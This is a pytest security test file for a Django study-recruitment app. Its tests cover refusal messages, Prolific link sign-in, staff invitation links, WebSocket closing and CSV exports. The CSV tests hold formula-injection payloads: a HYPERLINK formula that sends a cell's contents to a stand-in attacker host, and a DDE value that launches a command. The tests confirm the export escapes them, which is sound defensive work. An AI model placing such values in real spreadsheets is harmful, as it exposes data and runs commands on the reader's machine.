"""A hostile participant and a curious coordinator against the studies pages: what the
refusals, the public entry page and the coordinator's CSV downloads give away."""
import csv
import io
from importlib import import_module

import pytest
from asgiref.sync import async_to_sync, sync_to_async
from channels.testing import WebsocketCommunicator
from django.conf import settings
from django.test import Client
from django.utils import timezone
from test_studies_support import admin, coordinator, other_study, study  # noqa: F401

from config.asgi import application
from studies import assignment, bulk, consumers, entry, participants, pay
from studies.design import add_consent_version, add_member, create_study
from studies.errors import LinkRefused, StudyError
from studies.models import PayRecord, PayStatus, Role


@pytest.fixture
def participant_of_a(study, admin, django_user_model):
    user = django_user_model.objects.create_user("p-of-a", password=None)
    participants.add_participant(admin, study, "P-A", user=user)
    return user


def test_the_refusal_of_a_study_the_user_holds_no_role_in_does_not_name_it(client, participant_of_a, other_study):
    client.force_login(participant_of_a)
    response = client.get(f"/studies/{other_study.pk}/")
    html = response.content.decode()
    assert response.status_code == 403
    assert '<p class="reason">p-of-a may not view the study: they hold no role in this study</p>' in html
    assert "Study B" not in html


@pytest.fixture
def linked(study, coordinator, admin):
    add_consent_version(admin, study, "You run a simulated store for one shift.")
    entry.configure(coordinator, study, entry_open=True, completion_url="https://app.prolific.com/submissions/complete",
                    completion_code="C0MPLETE", return_code="RETURN12", base_pay_cents=500, bonus_bands=[],
                    fault_compensation_cents=0, reason="open recruitment")
    study.refresh_from_db()
    return study


def test_the_study_link_without_a_session_id_signs_nobody_in(client, linked):
    response = client.post(f"/studies/s/{linked.entry_slug}/?PROLIFIC_PID=pid0001", {"version": 1, "agree": "on"})
    assert response.status_code == 400
    assert ("This study link needs your PROLIFIC_PID and SESSION_ID in the address; open it from Prolific again"
            in response.content.decode())
    assert "_auth_user_id" not in client.session


def test_a_pid_recorded_without_a_session_is_not_signed_in_by_the_study_link(client, linked, coordinator):
    # An imported participant's PROLIFIC_PID (no session recorded): anyone could type it into the link.
    person = participants.add_participant(coordinator, linked, "imported-1")
    person.external_ids = {"PROLIFIC_PID": "pid0042"}
    person.save(update_fields=["external_ids"])
    response = client.post(f"/studies/s/{linked.entry_slug}/?PROLIFIC_PID=pid0042&SESSION_ID=guess",
                           {"version": 1, "agree": "on"})
    assert response.status_code == 400
    assert "This PROLIFIC_PID entered the study in another session" in response.content.decode()
    assert "_auth_user_id" not in client.session


def test_an_imported_person_with_a_session_id_is_sent_to_their_invitation(client, linked, coordinator):
    # Imported with both ids but never signed in: there is no account for the link to sign in to.
    person = participants.add_participant(coordinator, linked, "imported-2")
    person.external_ids = {"PROLIFIC_PID": "pid0043", "SESSION_ID": "sess43"}
    person.save(update_fields=["external_ids"])
    response = client.post(f"/studies/s/{linked.entry_slug}/?PROLIFIC_PID=pid0043&SESSION_ID=sess43",
                           {"version": 1, "agree": "on"})
    assert response.status_code == 400
    assert ("This PROLIFIC_PID was added to the study by its team; open the invitation link the coordinator "
            "sent you, or contact the researchers" in response.content.decode())


# --- the coordinator's CSV downloads: a label, PID or reason is never run as a formula ----------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def _rows(text):
    return list(csv.reader(io.StringIO(text)))


def test_the_payments_file_writes_a_formula_label_and_reason_as_text(study, coordinator, admin, django_user_model):
    person = participants.add_participant(coordinator, study, FORMULA,
                                          user=django_user_model.objects.create_user("payee", password=None))
    attempt = assignment.assign(coordinator, person, study.cells.first())
    PayRecord.objects.create(attempt=attempt, base_cents=100, status=PayStatus.APPROVED, approved_by=coordinator,
                             approved_at=timezone.now(), reason="@SUM(1+1)")
    row = dict(zip(*_rows(pay.payments_csv(coordinator, study)), strict=True))
    assert (row["participant"], row["reason"]) == ("'" + FORMULA, "'@SUM(1+1)")


def test_the_invitations_file_writes_a_formula_label_as_text(study, coordinator):
    person = participants.add_participant(coordinator, study, FORMULA)
    text = bulk.invite_many(coordinator, study, [person], 7, lambda token: f"https://site.example/join/{token}/")
    assert _rows(text)[1][0] == "'" + FORMULA


def test_the_import_report_writes_a_formula_label_as_text(study, coordinator):
    reports = bulk.import_participants(coordinator, study, "label\n+cmd|' /C calc'!A0\n")
    assert _rows(bulk.report_csv(reports))[1][1] == "'+cmd|' /C calc'!A0"


def test_the_public_study_link_page_has_no_staff_navigation(client, linked):
    html = client.get(f"/studies/s/{linked.entry_slug}/?PROLIFIC_PID=pid0001&SESSION_ID=s1").content.decode()
    assert "You run a simulated store for one shift." in html
    assert 'class="study-nav"' not in html and f"/studies/{linked.pk}/" not in html


# --- an invitation link never signs anyone in as an account with staff powers -------------------

STAFF_REFUSAL = ("P-B's account holds a staff role; an invitation link would sign whoever opens it in with those "
                 "powers, so none is issued or accepted: they sign in with their own password")


@pytest.fixture
def coordinator_of_b_in_a(study, other_study, admin, django_user_model):
    """Study B's coordinator, who also takes part in study A (participant P-B)."""
    user = django_user_model.objects.create_user("coord-b", password=None)
    add_member(admin, other_study, user, Role.COORDINATOR)
    return participants.add_participant(admin, study, "P-B", user=user)


def test_a_coordinator_is_refused_a_link_for_a_participant_who_is_staff_elsewhere(coordinator, coordinator_of_b_in_a):
    with pytest.raises(StudyError) as refused:
        participants.invite(coordinator, coordinator_of_b_in_a)
    assert str(refused.value) == STAFF_REFUSAL


def test_a_link_issued_before_the_account_became_staff_signs_nobody_in(client, coordinator, study, other_study,
                                                                        admin, django_user_model):
    user = django_user_model.objects.create_user("later-staff", password=None)
    person = participants.add_participant(admin, study, "P-B", user=user)
    issued = participants.invite(coordinator, person)
    add_member(admin, other_study, user, Role.COORDINATOR)
    response = client.post(f"/studies/join/{issued.token}/")
    page = response.content.decode().replace("&#x27;", "'")
    assert response.status_code == 400 and LinkRefused.shown_to_holder in page
    assert "staff role" not in page and "P-B" not in page  # the refusal's reason is the team's, not the link holder's
    assert "_auth_user_id" not in client.session


def test_an_outsiders_bad_leaderboard_filter_is_refused_before_it_is_read(client, participant_of_a, other_study):
    client.force_login(participant_of_a)
    response = client.get(f"/studies/{other_study.pk}/leaderboard/", {"include_nonsense": "1"})
    assert response.status_code == 403


@pytest.mark.django_db(transaction=True)
def test_a_monitor_socket_whose_sign_in_was_ended_is_closed_instead_of_pushed_to(monkeypatch, django_user_model):
    monkeypatch.setattr(consumers, "PUSH_SECONDS", 0)
    boss = django_user_model.objects.create_superuser("ws-boss", password=None)
    study = create_study(boss, "WS", ["steady"], [7])
    client = Client()
    client.force_login(boss)
    key = client.cookies[settings.SESSION_COOKIE_NAME].value
    headers = [(b"cookie", f"{settings.SESSION_COOKIE_NAME}={key}".encode()), (b"origin", b"http://testserver")]

    async def scenario():
        ws = WebsocketCommunicator(application, f"/ws/studies/{study.pk}/monitor/", headers=headers)
        connected, _ = await ws.connect()
        await ws.receive_json_from(timeout=10)  # the rows on connect
        await sync_to_async(import_module(settings.SESSION_ENGINE).SessionStore(session_key=key).delete)()
        for _ in range(200):  # rows pushed before the deletion was seen, then the close
            out = await ws.receive_output(timeout=10)
            if out["type"] != "websocket.send":
                break
        await ws.disconnect()
        return connected, out

    connected, closed = async_to_sync(scenario)()
    assert connected and closed == {"type": "websocket.close", "code": 4403}


@pytest.mark.parametrize("slug", ["a%00b", "a%20b", "%C3%A9t%C3%A9"])
def test_a_study_link_with_a_byte_no_link_holds_is_not_found(client, slug):
    """A link is token_urlsafe's letters, digits, - and _; a NUL had reached PostgreSQL (a 500)."""
    assert client.get(f"/studies/s/{slug}/").status_code == 404
